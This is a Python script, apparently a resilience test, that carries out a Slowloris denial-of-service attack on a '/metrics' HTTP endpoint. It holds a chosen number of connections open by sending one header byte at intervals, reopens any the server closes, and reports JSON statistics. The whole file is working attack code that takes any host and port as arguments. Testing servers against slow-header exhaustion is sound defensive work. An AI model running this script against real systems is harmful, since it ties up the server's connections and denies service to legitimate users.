#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Slowloris against the metrics endpoint: hold N connections that send a
request one header byte every INTERVAL seconds and never finish it; a
connection the server closes is opened again, so the N are held for as
long as the server lets them.

    metrics_slow.py HOST PORT N SECONDS [INTERVAL]

Runs SECONDS, then closes everything and prints one JSON document: how
many connections were open at the end and at most, how many connects were
made, and how many the server closed.
"""
import errno
import json
import selectors
import socket
import sys
import time

HOST, PORT, N, SECONDS = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
INTERVAL = float(sys.argv[5]) if len(sys.argv) > 5 else 2.0
HEAD = b"GET /metrics HTTP/1.1\r\nHost: fwd\r\nX-Slow: "

sel = selectors.DefaultSelector()
conns = {}  # socket -> time of its next byte, or 0 while it connects
stats = {"connects": 0, "closed_by_server": 0, "refused": 0, "open_max": 0, "sent_bytes": 0}


def open_one():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    rc = s.connect_ex((HOST, PORT))
    if rc not in (0, errno.EINPROGRESS):
        stats["refused"] += 1
        s.close()
        return
    stats["connects"] += 1
    conns[s] = 0.0
    sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)


def drop(s, by_server):
    sel.unregister(s)
    del conns[s]
    s.close()
    if by_server:
        stats["closed_by_server"] += 1


def on_event(s, mask, now):
    if mask & selectors.EVENT_READ:
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:  # closed (or refused) by the server: take its place again
            drop(s, True)
            return
    if conns[s] == 0.0 and mask & selectors.EVENT_WRITE:
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
            drop(s, True)
            return
        try:
            stats["sent_bytes"] += s.send(HEAD)
        except OSError:
            drop(s, True)
            return
        conns[s] = now + INTERVAL
        sel.modify(s, selectors.EVENT_READ)


def trickle(now):
    for s, due in list(conns.items()):
        if due and due <= now:
            try:
                stats["sent_bytes"] += s.send(b"a")
                conns[s] = now + INTERVAL
            except OSError:
                drop(s, True)


end = time.monotonic() + SECONDS
while True:
    now = time.monotonic()
    if now >= end:
        break
    while len(conns) < N:
        open_one()
    for key, mask in sel.select(timeout=0.05):
        if key.fileobj in conns:
            on_event(key.fileobj, mask, now)
    trickle(now)
    held = sum(1 for due in conns.values() if due)
    stats["open_max"] = max(stats["open_max"], held)
stats["open_end"] = sum(1 for due in conns.values() if due)
for s in list(conns):
    drop(s, False)
print(json.dumps(stats))
